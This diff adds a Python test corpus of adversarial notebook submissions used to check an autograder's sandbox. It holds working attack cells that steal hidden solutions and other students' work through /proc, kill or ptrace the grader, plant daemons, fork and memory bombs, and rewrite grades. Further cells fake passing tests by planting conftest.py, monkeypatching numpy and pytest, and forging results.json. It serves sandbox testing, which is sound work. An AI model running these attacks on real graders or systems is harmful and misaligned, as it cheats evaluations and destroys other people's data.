@@ -1,0 +1,778 @@
+"""The adversarial corpus: submissions that attack the grader, each with the honest code it hides
+behind (its twin) and what grading it must show.
+
+An attack is the twin's notebook (the release notebook, the instructor's solution where the twin
+is right, a known wrong variant where it is not) plus attack cells, or a file-level trick
+(symbolic links, FIFOs, huge or malformed files). Attack cells are written as an attacker with
+full knowledge would write them: they are told the course folder, the grader's home folder and
+the graders' shapes (`@COURSE@`, `@HOME@`, ...), so the sandbox is tested against the worst case.
+Every attack process marks itself with a token (`@TOKEN@`) in its comm and argv, and every file
+it creates carries the token in its name, so the harness can find what survived.
+
+Attack cells only ever aim at this test's own scratch course, the grader's process tree, the
+canary files made for the run, and 127.0.0.1: nothing else on the machine is touched, even where
+the sandbox is missing.
+"""
+from __future__ import annotations
+
+import sys
+from dataclasses import dataclass, field
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "tools"))
+from submissions import FUNCTIONS, LN_UNBIASED, SILU_NAIVE
+
+# ----------------------------------------------------------------------------- twins
+# The honest code an attack hides behind: (functions done with the solution, wrong variants).
+
+LN_MUTATES = '''
+def layer_norm(x, gamma, beta, eps=1e-5):
+    mean = x.mean(axis=-1, keepdims=True)
+    var = x.var(axis=-1, keepdims=True)
+    x -= mean                      # mutates the caller's array
+    return gamma * x / np.sqrt(var + eps) + beta
+'''
+
+SPLIT_UNWRITTEN = '''
+def split_heads(x, n_heads):
+    raise NotImplementedError("split_heads is not written yet")
+'''
+
+TWINS: dict[str, tuple[tuple[str, str], ...]] = {
+    "ln": (("layer_norm", LN_UNBIASED),),                               # layer_norm wrong
+    "mut": (("layer_norm", LN_MUTATES), ("silu", SILU_NAIVE)),          # mutation and overflow warnings
+    "split": (("split_heads", SPLIT_UNWRITTEN),),                       # split_heads left unwritten
+}
+NO_NOTEBOOK = "none"      # twin of a file-level attack: no gradable notebook at all (scores 0)
+
+# ----------------------------------------------------------------------------- shared attack code
+
+PRELUDE = r'''
+import ctypes as _ct, os as _os, sys as _sys, glob as _glob, json as _json, signal as _signal
+_TOKEN = "@TOKEN@"
+_COURSE = "@COURSE@"
+_HOME = "@HOME@"
+_ASSIGNMENT = "transformer-block"
+_found = []
+try:
+    _ct.CDLL(None).prctl(15, _TOKEN.encode(), 0, 0, 0)      # PR_SET_NAME: comm carries the token
+except Exception:
+    pass
+
+def _read(path, limit=4000):
+    try:
+        with open(path, "rb") as fh:
+            return fh.read(limit).decode("utf-8", "replace")
+    except Exception as exc:
+        return None
+
+def _write(path, text):
+    try:
+        with open(path, "w") as fh:
+            fh.write(text)
+        return True
+    except Exception:
+        return False
+
+def _grader_pids():
+    """The grader and every process below it (the harness's own tree only)."""
+    try:
+        ppid = _os.getppid()
+    except Exception:
+        return []
+    parents = {}
+    for d in _os.listdir("/proc"):
+        if d.isdigit():
+            try:
+                stat = open(f"/proc/{d}/stat").read()
+                parents[int(d)] = int(stat.rsplit(")", 1)[1].split()[1])
+            except Exception:
+                pass
+    tree, todo = set(), [ppid]
+    while todo:
+        p = todo.pop()
+        if p in tree or p <= 1:
+            continue
+        tree.add(p)
+        todo.extend(c for c, pp in parents.items() if pp == p)
+    return sorted(tree)
+
+def _roots():
+    """Ways to reach the course folder: directly and through the grader's /proc entries."""
+    out = [_COURSE]
+    try:
+        ppid = _os.getppid()
+        out += [f"/proc/{ppid}/root{_COURSE}", f"/proc/{ppid}/cwd"]
+    except Exception:
+        pass
+    return out
+
+def _leak():
+    if _found:
+        raise RuntimeError("EXFIL " + " || ".join(_found)[:1800])
+
+def _daemon(body):
+    """Double fork + setsid: a process that leaves the sandbox's process group."""
+    try:
+        if _os.fork() == 0:
+            _os.setsid()
+            if _os.fork() == 0:
+                try:
+                    _ct.CDLL(None).prctl(15, _TOKEN.encode(), 0, 0, 0)
+                    body()
+                finally:
+                    _os._exit(0)
+            _os._exit(0)
+        _os.wait()
+    except Exception:
+        pass
+'''
+
+# Reading what must stay hidden, then showing it in a cell error (the student's notes).
+READ_HIDDEN = r'''
+_targets = ["assignments/transformer_block/reference.py", "assignments/transformer_block/mistakes.py",
+            "assignments/transformer_block/graders/test_layer_norm.py", ".course_secret", "gradebook.db",
+            "source/transformer-block/transformer-block.ipynb"]
+for _root in _roots():
+    for _t in _targets:
+        _text = _read(_os.path.join(_root, _t), 10**7)
+        if _text:
+            _found.append(f"{_t}: {_text.strip()[-120:]}")
+    for _nb in _glob.glob(_os.path.join(_root, "submitted", "*", _ASSIGNMENT, "*.ipynb")):
+        _text = _read(_nb, 10**7)
+        if _text and _TOKEN not in _text:
+            _at = _text.find("victim_mark")
+            _found.append(f"{_nb}: {_text[max(0, _at - 120):_at]}")
+_leak()
+'''
+
+STEAL_REFERENCE = r'''
+_code = None
+for _root in _roots():
+    _code = _read(_os.path.join(_root, "assignments/transformer_block/reference.py"), 200000)
+    if _code:
+        break
+if _code:
+    _ns = {}
+    exec(compile(_code, "reference", "exec"), _ns)
+    layer_norm = _ns["layer_norm"]
+'''
+
+STEAL_OTHER_STUDENT = r'''
+for _root in _roots():
+    for _nb in sorted(_glob.glob(_os.path.join(_root, "submitted", "*", _ASSIGNMENT, "*.ipynb"))):
+        _text = _read(_nb, 10**7)
+        if not _text or _TOKEN in _text:
+            continue
+        for _cell in _json.loads(_text)["cells"]:
+            _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
+            if _cell["cell_type"] == "code" and _src.lstrip().startswith("def layer_norm"):
+                exec(_src, globals())
+                _found.append("stole layer_norm from " + _nb)
+'''
+
+PROC_OF_GRADER = r'''
+for _pid in _grader_pids()[:3]:
+    for _what in ("cmdline", "environ", "maps"):
+        _text = _read(f"/proc/{_pid}/{_what}", 3000)
+        if _text:
+            _found.append(f"/proc/{_pid}/{_what}: {_text[:300]}")
+    try:
+        _maps = open(f"/proc/{_pid}/maps").read().splitlines()
+        _fd = _os.open(f"/proc/{_pid}/mem", _os.O_RDONLY)
+        for _line in _maps:
+            if "[heap]" in _line:
+                _lo, _hi = (int(v, 16) for v in _line.split()[0].split("-"))
+                _chunk = _os.pread(_fd, min(_hi - _lo, 1 << 24), _lo)
+                for _needle in (b"victim-", b"marker-"):
+                    _at = _chunk.find(_needle)
+                    if _at >= 0:
+                        _found.append("grader memory: " + _chunk[max(0, _at - 40):_at + 60].decode("latin-1"))
+        _os.close(_fd)
+    except Exception:
+        pass
+_leak()
+'''
+
+CONFTEST = r'''
+_conftest = """
+import os
+import pytest
+
+@pytest.hookimpl(wrapper=True)
+def pytest_runtest_call(item):
+    try:
+        return (yield)
+    except BaseException:
+        return None
+
+def pytest_sessionfinish(session):
+    try:
+        os.unlink(__file__)
+    except OSError:
+        pass
+"""
+for _root in _roots():
+    _write(_os.path.join(_root, "assignments/transformer_block/graders/conftest.py"), _conftest)
+'''
+
+PTH_INTO_VENV = r'''
+import site as _site
+_places = list(_site.getsitepackages()) + [_site.getusersitepackages()]
+for _p in _sys.path:
+    if _p.endswith("site-packages"):
+        _places.append(_p)
+for _p in set(_places):
+    _write(_os.path.join(_p, _TOKEN + ".pth"),
+           "import os; os.makedirs(os.path.expanduser('~/" + _TOKEN + "-pth-ran'), exist_ok=True)\n")
+    try:
+        _ppid = _os.getppid()
+        _write(f"/proc/{_ppid}/root" + _os.path.join(_p, _TOKEN + ".pth"), "import os\n")
+    except Exception:
+        pass
+'''
+
+ENGINE_SOURCE = r'''
+try:
+    import autograder as _ag
+    _pkg = _os.path.dirname(_ag.__file__)
+except Exception:
+    _pkg = None
+if _pkg:
+    for _target in ("grading/checks.py", "grading/plugin.py", "__init__.py"):
+        _path = _os.path.join(_pkg, _target)
+        _text = _read(_path, 10**6)
+        if _text is not None:
+            _write(_path, _text + "\n# " + _TOKEN + "\n")
+    _write(_os.path.join(_pkg, _TOKEN + "_sitecustomize.py"), "")
+'''
+
+HOME_AND_TMP = r'''
+for _place in (_HOME, "/tmp", "/var/tmp", "/dev/shm"):
+    _write(_os.path.join(_place, _TOKEN + "-was-here"), "x")
+    for _canary in _glob.glob(_os.path.join(_place, ".canary-*")) + _glob.glob(_os.path.join(_place, "canary-*")):
+        _found.append(_canary + ": " + str(_read(_canary)))
+        _write(_canary, "overwritten by " + _TOKEN)
+_leak()
+'''
+
+OTHER_RESULTS = r'''
+import sqlite3 as _sqlite3
+for _root in _roots():
+    for _rj in _glob.glob(_os.path.join(_root, "autograded", "*", _ASSIGNMENT, "results.json")):
+        _write(_rj, _json.dumps({"score": 0, "tests": [], "output": "deleted by " + _TOKEN}))
+    for _nb in _glob.glob(_os.path.join(_root, "submitted", "*", _ASSIGNMENT, "*.ipynb")):
+        _text = _read(_nb, 10**7)
+        if _text and _TOKEN not in _text:
+            _write(_nb, '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}')
+    try:
+        _db = _sqlite3.connect(_os.path.join(_root, "gradebook.db"), timeout=1)
+        _db.execute("UPDATE grade SET auto_score = 0")
+        _db.commit()
+        _db.close()
+    except Exception:
+        pass
+'''
+
+SIGNAL_GRADER = r'''
+for _pid in _grader_pids():
+    if _pid != _os.getpid():
+        try:
+            _os.kill(_pid, _signal.@SIGNAL@)
+        except Exception:
+            pass
+'''
+KILL_GRADER = SIGNAL_GRADER.replace("@SIGNAL@", "SIGKILL")
+STOP_GRADER = SIGNAL_GRADER.replace("@SIGNAL@", "SIGSTOP")
+
+PTRACE_GRADER = r'''
+_libc = _ct.CDLL(None, use_errno=True)
+_libc.ptrace.argtypes = [_ct.c_long, _ct.c_long, _ct.c_void_p, _ct.c_void_p]
+for _pid in _grader_pids()[:1]:
+    if _libc.ptrace(16, _pid, None, None) == 0:          # PTRACE_ATTACH: the grader stops
+        _found.append(f"attached to {_pid}")
+        import time as _time
+        _time.sleep(1000)
+'''
+
+DAEMON_REWRITES = r'''
+_grader = _os.getppid()
+def _rewrite():
+    import time as _time, sqlite3 as _sqlite3
+    _held = []
+    for _r in _roots():                  # a folder descriptor outlives the grader's /proc entry
+        try:
+            _held.append(f"/proc/self/fd/{_os.open(_r, _os.O_RDONLY | _os.O_DIRECTORY)}")
+        except Exception:
+            pass
+    _end = _time.time() + 120
+    while _time.time() < _end and _os.path.exists(f"/proc/{_grader}"):
+        _time.sleep(0.05)
+    for _root in _held:
+        for _rj in _glob.glob(_os.path.join(_root, "autograded", "*", _ASSIGNMENT, "results.json")):
+            try:
+                _doc = _json.load(open(_rj))
+                _doc["score"] = 100.0 if (_os.sep + "m-") in _rj else 0.0
+                _write(_rj, _json.dumps(_doc))
+            except Exception:
+                pass
+        for _page in _glob.glob(_os.path.join(_root, "feedback", "*", _ASSIGNMENT, "*.html")):
+            _write(_page, "<p>100 / 100</p>" if (_os.sep + "m-") in _page else "<p>0 / 100</p>")
+        try:
+            _db = _sqlite3.connect(_os.path.join(_root, "gradebook.db"), timeout=5)
+            _db.execute("UPDATE grade SET auto_score = 0")
+            _db.commit()
+            _db.close()
+        except Exception:
+            pass
+_daemon(_rewrite)
+'''
+
+DAEMON_KILLS_SANDBOXES = r'''
+_mine = _os.getpid()
+_grader = _os.getppid()
+def _killer():
+    import time as _time
+    _end = _time.time() + 90
+    while _time.time() < _end:
+        for _d in _os.listdir("/proc"):
+            if not _d.isdigit() or int(_d) in (_os.getpid(), _mine):
+                continue
+            try:
+                _cmd = open(f"/proc/{_d}/cmdline", "rb").read()
+            except Exception:
+                continue
+            if b"autograder.sandbox" in _cmd and _TOKEN.encode() not in open(f"/proc/{_d}/comm", "rb").read():
+                try:
+                    _anc, _p = set(), int(_d)
+                    while _p > 1 and _p not in _anc:
+                        _anc.add(_p)
+                        _p = int(open(f"/proc/{_p}/stat").read().rsplit(")", 1)[1].split()[1])
+                    if _grader in _anc:
+                        _os.kill(int(_d), _signal.SIGKILL)
+                except Exception:
+                    pass
+        _time.sleep(0.02)
+_daemon(_killer)
+'''
+
+FORK_BOMB = r'''
+_kids = 0
+for _i in range(300):
+    try:
+        _pid = _os.fork()
+    except OSError:
+        break
+    if _pid == 0:
+        try:
+            _os.setsid()
+            _ct.CDLL(None).prctl(15, _TOKEN.encode(), 0, 0, 0)
+            import time as _time
+            _time.sleep(150)
+        finally:
+            _os._exit(0)
+    _kids += 1
+print("forked", _kids)
+'''
+
+NETWORK = r'''
+import socket as _socket
+for _family, _addr in ((_socket.AF_INET, ("127.0.0.1", @PORT@)),):
+    try:
+        _s = _socket.socket(_family, _socket.SOCK_STREAM)
+        _s.settimeout(2)
+        _s.connect(_addr)
+        _s.sendall(_TOKEN.encode())
+        _found.append(f"connected to {_addr}")
+        _s.close()
+    except Exception:
+        pass
+_leak()
+'''
+
+PATCH_RUNNER = r'''
+import warnings as _warnings, contextlib as _contextlib
+import numpy as np
+class _NoRecord:
+    def __init__(self, *a, **k):
+        pass
+    def __enter__(self):
+        return []
+    def __exit__(self, *a):
+        return False
+def _nothing(*a, **k):
+    return []
+for _name, _mod in list(_sys.modules.items()):
+    _file = str(getattr(_mod, "__file__", "") or "")
+    if _mod is None or not (_name.startswith("autograder") or _name == "__main__" or "autograder" in _file):
+        continue
+    _vars = vars(_mod)
+    for _k, _v in list(_vars.items()):
+        _low = _k.lower()
+        if callable(_v) and ("mutat" in _low or "snapshot" in _low):
+            _vars[_k] = _nothing
+        elif _low.endswith("catch_warnings"):
+            _vars[_k] = _NoRecord
+        elif _low.endswith("errstate"):
+            _vars[_k] = lambda *a, **k: _contextlib.nullcontext()
+_warnings.catch_warnings = _NoRecord
+_warnings.showwarning = lambda *a, **k: None
+_warnings.simplefilter = lambda *a, **k: None
+np.seterr(all="ignore")
+np.errstate = lambda *a, **k: _contextlib.nullcontext()
+'''
+
+# split_heads is unwritten; while multi_head_attention runs with the trusted split_heads (if
+# the graders swap it in), the answers for the shapes split_heads is tested on are recorded and
+# later replayed, in memory and in scratch files.
+REPLAY_SPLIT = r'''
+import numpy as np
+_REPLAY = {}
+_SHAPES = [((5, 8), 2), ((1, 8), 2), ((6, 12), 1), ((4, 6), 6), ((2, 3, 4, 16), 4), ((12, 64), 8), ((5, 12), 3)]
+_CACHE_FILES = [_os.path.join(_os.getcwd(), _TOKEN + "-replay.json"), "/tmp/" + _TOKEN + "-replay.json"]
+
+def _record(split):
+    for _shape, _h in _SHAPES:
+        try:
+            _idx = np.arange(int(np.prod(_shape)), dtype=np.float64).reshape(_shape)
+            _out = np.asarray(split(_idx, _h))
+            _REPLAY[(_shape, _h)] = (_out.shape, _out.ravel().astype(np.int64).tolist())
+        except Exception:
+            pass
+    for _f in _CACHE_FILES:
+        _write(_f, _json.dumps([[list(k[0]), k[1], list(v[0]), v[1]] for k, v in _REPLAY.items()]))
+
+def _recall():
+    if _REPLAY:
+        return
+    for _f in _CACHE_FILES:
+        _text = _read(_f, 10**7)
+        if _text:
+            for _shape, _h, _oshape, _perm in _json.loads(_text):
+                _REPLAY[(tuple(_shape), _h)] = (tuple(_oshape), _perm)
+            return
+
+def split_heads(x, n_heads):
+    _recall()
+    _hit = _REPLAY.get((tuple(np.shape(x)), n_heads))
+    if _hit is None:
+        raise NotImplementedError("split_heads is not written yet")
+    return np.asarray(x).ravel()[_hit[1]].reshape(_hit[0])
+
+_own_mha = multi_head_attention
+def multi_head_attention(x, W_Q, W_K, W_V, W_O, n_heads, mask=None):
+    if not _REPLAY:
+        _record(split_heads)
+    return _own_mha(x, W_Q, W_K, W_V, W_O, n_heads, mask)
+'''
+
+CALLBACK_FLOOD = r'''
+import numpy as np
+_own_mha = multi_head_attention
+def multi_head_attention(x, W_Q, W_K, W_V, W_O, n_heads, mask=None):
+    for _i in range(3):
+        try:
+            softmax(np.zeros((1, 3000, 3000)), axis=-1)
+        except Exception:
+            pass
+    return _own_mha(x, W_Q, W_K, W_V, W_O, n_heads, mask)
+
+_own_block = pre_ln_block
+def pre_ln_block(x, params, n_heads, mask=None):
+    _w = np.zeros((1, 1))
+    for _i in range(2):
+        try:                             # (6000, 1) tokens: a 6000 x 6000 attention in whoever computes it
+            multi_head_attention(np.zeros((6000, 1)), _w, _w, _w, _w, 1)
+        except Exception:
+            pass
+    return _own_block(x, params, n_heads, mask)
+'''
+
+RETURN_FLOOD = r'''
+import numpy as np
+def _flood(*args, **kwargs):
+    return np.ones(32 * 2**20 - 4096)          # just under 256 MB back to the grader on every call
+layer_norm = split_heads = merge_heads = multi_head_attention = pre_ln_block = silu = swiglu_ffn = _flood
+'''
+
+PRINT_FLOOD_CELL = 'print("@TOKEN@" * 6000 + "x" * 60000)'
+
+MEMORY_BOMB = r'''
+_hog = []
+try:
+    while True:
+        _hog.append(bytearray(256 * 2**20))
+except MemoryError:
+    pass
+_hog = None
+try:
+    _big = bytearray(10**13)
+except (MemoryError, OverflowError):
+    pass
+import numpy as np
+_honest_ln = layer_norm
+def layer_norm(x, gamma, beta, eps=1e-5):
+    _h = []
+    try:
+        while True:
+            _h.append(np.ones(2**25))
+    except MemoryError:
+        pass
+    del _h
+    return _honest_ln(x, gamma, beta, eps)
+'''
+
+INFINITE_CELL = "while True:\n    pass"
+
+HANGING_FUNCTIONS = r'''
+def layer_norm(x, gamma, beta, eps=1e-5):
+    while True:
+        pass
+def silu(x):
+    import time
+    time.sleep(10**6)
+'''
+
+SLOW_CELL = "import time\ntime.sleep(3.5)          # just under the cell limit"
+
+EVERYTHING_HANGS = "\n".join(
+    f"def {fn}(*args, **kwargs):\n    while True:\n        pass\n" for fn in FUNCTIONS)
+
+SIGNALS = r'''
+for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGALRM, _signal.SIGXCPU, _signal.SIGUSR1):
+    try:
+        _signal.signal(_s, _signal.SIG_IGN)
+    except Exception:
+        pass
+try:
+    _signal.pthread_sigmask(_signal.SIG_BLOCK, set(_signal.Signals) - {_signal.SIGKILL, _signal.SIGSTOP})
+except Exception:
+    pass
+def silu(x):
+    while True:
+        pass
+'''
+
+SYS_EXIT_CELL = "import sys\nsys.exit(0)"
+OS_EXIT_CELL = "import os\nos._exit(0)"
+EXITING_FUNCTIONS = r'''
+import os as _os2, sys as _sys2
+def layer_norm(x, gamma, beta, eps=1e-5):
+    _sys2.exit(0)
+def silu(x):
+    _os2._exit(0)
+def merge_heads(x):
+    raise SystemExit(3)
+'''
+
+MONKEYPATCH = r'''
+import builtins as _builtins
+import numpy as np
+np.allclose = lambda *a, **k: True
+np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
+np.testing.assert_allclose = lambda *a, **k: None
+np.testing.assert_array_equal = lambda *a, **k: None
+np.array_equal = lambda *a, **k: True
+np.all = lambda *a, **k: True
+np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
+_builtins.isinstance = lambda *a: True
+_builtins.abs = lambda x: 0
+_builtins.max = lambda *a, **k: 0
+class _FakePytest:
+    def __getattr__(self, name):
+        return lambda *a, **k: None
+_sys.modules["pytest"] = _FakePytest()
+_sys.modules["_pytest"] = _FakePytest()
+'''
+
+LYING_RETURNS = r'''
+import numpy as np
+class _Liar(np.ndarray):
+    def __eq__(self, other):
+        return np.ones(np.shape(self), dtype=bool)
+    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+        return np.zeros(np.broadcast_shapes(*[np.shape(i) for i in inputs]))
+    def __array_function__(self, func, types, args, kwargs):
+        return True
+    def __len__(self):
+        return 0
+class _Weird:
+    def __array__(self, dtype=None, copy=None):
+        raise RuntimeError("no")
+    def __reduce__(self):
+        return (print, ("pickled code ran",))
+_honest_ln = layer_norm
+def layer_norm(x, gamma, beta, eps=1e-5):
+    return np.asarray(_honest_ln(x, gamma, beta, eps)).view(_Liar)
+def silu(x):
+    return _Weird()
+def merge_heads(x):
+    return (i for i in range(3))
+def count_block_params(d_model, d_ff, ffn):
+    return 10**5000
+'''
+
+FAKE_RESULTS = r'''
+_fake = {"score": 100.0, "max_score": 100.0, "output": "all passed", "tests": [
+    {"name": "everything", "score": 100.0, "max_score": 100.0, "status": "passed"}]}
+for _place in (".", ".."):
+    _write(_os.path.join(_place, "results.json"), _json.dumps(_fake))
+for _place in ("/tmp", _HOME):
+    _write(_os.path.join(_place, _TOKEN + "-results.json"), _json.dumps(_fake))
+for _root in _roots():
+    for _d in _glob.glob(_os.path.join(_root, "autograded", "m-*", _ASSIGNMENT)):
+        _write(_os.path.join(_d, "results.json"), _json.dumps(_fake))
+print(_json.dumps(_fake))
+print("Score: 100/100 -- all tests passed")
+print("PASSED " * 100, file=_sys.stderr)
+'''
+
+
+# ----------------------------------------------------------------------------- the table
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    twin: str                         # key of TWINS, or NO_NOTEBOOK
+    what: str                         # the attack, in a few words (docs/security.md's table)
+    stops: str                        # what is expected to stop it
+    cells: tuple[str, ...] = ()       # attack cells, after the prelude, at the end of the notebook
+    early: tuple[str, ...] = ()       # attack cells right after the setup cell
+    layout: str = ""                  # a file-level attack (see harness.write_layout)
+    note: str = ""                    # a substring the attacker's notes must show
+    repeat_cells: int = 0             # this many copies of `cells` (floods)
+    tags: tuple[str, ...] = field(default_factory=tuple)
+
+
+def _cells(*parts: str) -> tuple[str, ...]:
+    return tuple(p.strip("\n") for p in parts)
+
+
+ATTACKS: tuple[Attack, ...] = (
+    # reading what must stay hidden
+    Attack("read_hidden_files", "ln", "read reference, mistakes, graders, .course_secret, gradebook, source and "
+           "other students' notebooks with plain reads and through /proc/<ppid>/root and cwd; show them in an error",
+           "allow-list filesystem: the course folder is not in the sandbox; PID namespace hides the grader's /proc",
+           cells=_cells(READ_HIDDEN)),
+    Attack("steal_reference", "ln", "exec the instructor's reference.py as layer_norm",
+           "allow-list filesystem; PID namespace", cells=_cells(STEAL_REFERENCE)),
+    Attack("steal_other_student", "ln", "exec another student's layer_norm from submitted/",
+           "allow-list filesystem; PID namespace", cells=_cells(STEAL_OTHER_STUDENT)),
+    Attack("proc_of_grader", "ln", "read the grader's /proc/<pid>/cmdline, environ, maps and mem",
+           "PID namespace with a fresh /proc; no ptrace capability", cells=_cells(PROC_OF_GRADER)),
+    # writing into the trusted side
+    Attack("conftest_into_graders", "ln", "write graders/conftest.py that turns every failure into a pass",
+           "allow-list filesystem (the graders are not mounted); graders run only in the trusted process",
+           cells=_cells(CONFTEST)),
+    Attack("pth_into_venv", "ln", "drop a .pth file into the venv's site-packages (runs in every later command)",
+           "site-packages mounted read-only", cells=_cells(PTH_INTO_VENV)),
+    Attack("engine_source", "ln", "append to the engine's own modules (checks.py, plugin.py)",
+           "engine mounted read-only", cells=_cells(ENGINE_SOURCE)),
+    Attack("home_and_tmp", "ln",
+           "overwrite canary files in the grader's home, /tmp, /var/tmp, /dev/shm; leave files there",
+           "allow-list filesystem with a private tmpfs scratch", cells=_cells(HOME_AND_TMP)),
+    Attack("other_results_and_gradebook", "ln", "overwrite other students' results.json, blank their notebooks, "
+           "zero the gradebook", "course folder not in the sandbox", cells=_cells(OTHER_RESULTS)),
+    # stopping or sabotaging the batch
+    Attack("kill_grader", "ln", "SIGKILL the grader and every process of its tree",
+           "PID namespace: no other process is visible",
+           cells=_cells(KILL_GRADER)),
+    Attack("stop_grader", "ln", "SIGSTOP the grader and its tree", "PID namespace", cells=_cells(STOP_GRADER)),
+    Attack("ptrace_grader", "ln", "PTRACE_ATTACH to the grader and hold it", "PID namespace; seccomp denies ptrace",
+           cells=_cells(PTRACE_GRADER)),
+    # outliving grading
+    Attack("daemon_rewrites_results", "ln", "double-fork + setsid daemon that waits for the grader to exit, then "
+           "rewrites results.json, feedback pages and the gradebook",
+           "PID namespace dies with the sandbox; course folder absent",
+           cells=_cells(DAEMON_REWRITES)),
+    Attack("daemon_kills_sandboxes", "ln", "setsid daemon that kills the sandboxes of students graded after it",
+           "PID namespace dies with the sandbox", cells=_cells(DAEMON_KILLS_SANDBOXES)),
+    Attack("fork_bomb", "ln", "300 forked setsid children that sleep",
+           "process limit; PID namespace dies with the sandbox",
+           cells=_cells(FORK_BOMB)),
+    # no escape needed
+    Attack("patch_own_runner", "mut", "patch the child's own runner and warnings machinery so a mutating layer_norm "
+           "and an overflowing silu look clean", "no points rest on the child's reports about itself",
+           early=_cells(PATCH_RUNNER)),
+    Attack("replay_split_heads", "split", "record the trusted split_heads' answers during multi_head_attention "
+           "and replay them in split_heads",
+           "no callbacks; a fresh fork per problem (no memory or scratch carried over)",
+           cells=_cells(REPLAY_SPLIT)),
+    Attack("restart_amplification", "ln", "cells just under the cell limit and every function hanging "
+           "(each call times out and restarts the notebook)", "one wall-clock budget per submission; a cap on restarts",
+           early=_cells(*(SLOW_CELL,) * 6), cells=_cells(EVERYTHING_HANGS)),
+    Attack("callback_flood", "ln", "from inside the student's functions, call trusted helpers on inputs that cost "
+           "the grader a 6000x6000 attention (or a 3000x3000 softmax)",
+           "no callbacks", cells=_cells(CALLBACK_FLOOD)),
+    Attack("print_flood", "ln", "6000 cells printing 64 KiB each", "captured output capped and never accumulated",
+           cells=_cells(PRINT_FLOOD_CELL), repeat_cells=6000),
+    Attack("return_flood", "ln", "every array function returns 256 MB on every call",
+           "a cap on the bytes of a returned value",
+           cells=_cells(RETURN_FLOOD)),
+    # resource exhaustion
+    Attack("memory_bomb", "ln", "allocate until MemoryError in a cell and in every layer_norm call",
+           "address-space limit", cells=_cells(MEMORY_BOMB)),
+    Attack("infinite_loop_cell", "ln", "a cell that never ends",
+           "per-cell time limit; the notebook runs again without it",
+           cells=_cells(INFINITE_CELL)),
+    Attack("hanging_functions", "ln", "layer_norm spins, silu sleeps forever", "per-call time limit",
+           cells=_cells(HANGING_FUNCTIONS)),
+    Attack("signal_handlers", "ln", "ignore and block every catchable signal, then hang in silu",
+           "SIGKILL, which cannot be caught", cells=_cells(SIGNALS)),
+    Attack("exits", "ln", "sys.exit and os._exit in cells and inside functions",
+           "the notebook runs again without the cell; a call that ends the process fails alone",
+           cells=_cells(SYS_EXIT_CELL, OS_EXIT_CELL, EXITING_FUNCTIONS)),
+    # lying
+    Attack("monkeypatch_numpy_builtins_pytest", "ln", "replace np.allclose, np.isclose, np.testing, np.all, "
+           "builtins.isinstance/abs/max and sys.modules['pytest'] in the notebook",
+           "graders run in the trusted process, on plain data", early=_cells(MONKEYPATCH)),
+    Attack("lying_returns", "ln", "ndarray subclass whose ==, ufuncs and functions lie; objects with __reduce__; "
+           "generators; a 5000-digit int", "trusted decoder accepts plain data only", cells=_cells(LYING_RETURNS)),
+    Attack("fake_results_and_scores", "ln", "write results.json files everywhere it can and print scores",
+           "results are computed in the trusted process; course folder absent", cells=_cells(FAKE_RESULTS)),
+    Attack("network_connect", "ln", "connect to a listener on 127.0.0.1 outside the sandbox",
+           "network namespace (loopback only)",
+           cells=_cells(NETWORK)),
+    # files
+    Attack("notebook_symlink_to_other_student", NO_NOTEBOOK, "the submitted notebook is a symbolic link to another "
+           "student's notebook", "lstat + O_NOFOLLOW: only regular files are read", layout="link_to_victim",
+           note="symbolic link"),
+    Attack("notebook_symlink_to_secret", NO_NOTEBOOK, "notebooks linking to .course_secret and gradebook.db, "
+           "timestamp.txt linking to /dev/zero", "regular files only; copies never follow links",
+           layout="link_to_secret",
+           note="symbolic link"),
+    Attack("folder_symlink", NO_NOTEBOOK, "the student's folder is a symbolic link to another student's",
+           "no link followed anywhere under submitted/<student>/", layout="folder_link", note="symbolic link"),
+    Attack("fifo_notebook", NO_NOTEBOOK, "the notebook is a named pipe (a naive open blocks forever)",
+           "O_NONBLOCK open and a file type check", layout="fifo", note="named pipe"),
+    Attack("unreadable_notebook", "ln", "notebook with mode 000 (unreadable unless root)",
+           "a read error is a reason for that student only", layout="mode_000"),
+    Attack("notebook_100k_cells", "ln", "100,000 code cells", "per-submission time budget; bounded memory",
+           layout="100k_cells"),
+    Attack("notebook_200mb", NO_NOTEBOOK, "a 200 MB notebook", "size checked with fstat before reading",
+           layout="200mb", note="MB limit"),
+    Attack("deep_json_nesting", NO_NOTEBOOK, "metadata nested 100,000 lists deep", "recursion error caught: a reason",
+           layout="deep_json", note="nests"),
+    Attack("metadata_tampering", "ln", "nbgrader metadata claiming 1000 points, every cell a grade cell, odd "
+           "kernelspec and nbformat_minor", "scores come from course.yml and the graders only", layout="metadata"),
+)
+
+NAMES = tuple(a.name for a in ATTACKS)
+assert len(set(NAMES)) == len(NAMES)
+
+TWIN_WORDS = {
+    "ln": "layer_norm with the unbiased variance",
+    "mut": "a mutating layer_norm and an overflowing silu",
+    "split": "split_heads left unwritten",
+    NO_NOTEBOOK: "no gradable notebook (0)",
+}
+
+
+def markdown_table() -> str:
+    """The corpus table of docs/security.md, generated from ATTACKS (a test keeps the two equal)."""
+    lines = ["| # | attack | what it does | what stops it | twin (scores at least as much) | also expected |",
+             "|---|---|---|---|---|---|"]
+    for i, a in enumerate(ATTACKS, start=1):
+        also = f'notes say "{a.note}"' if a.note else ""
+        lines.append(f"| {i} | `{a.name}` | {a.what} | {a.stops} | {TWIN_WORDS[a.twin]} | {also} |")
+    return "\n".join(lines) + "\n"
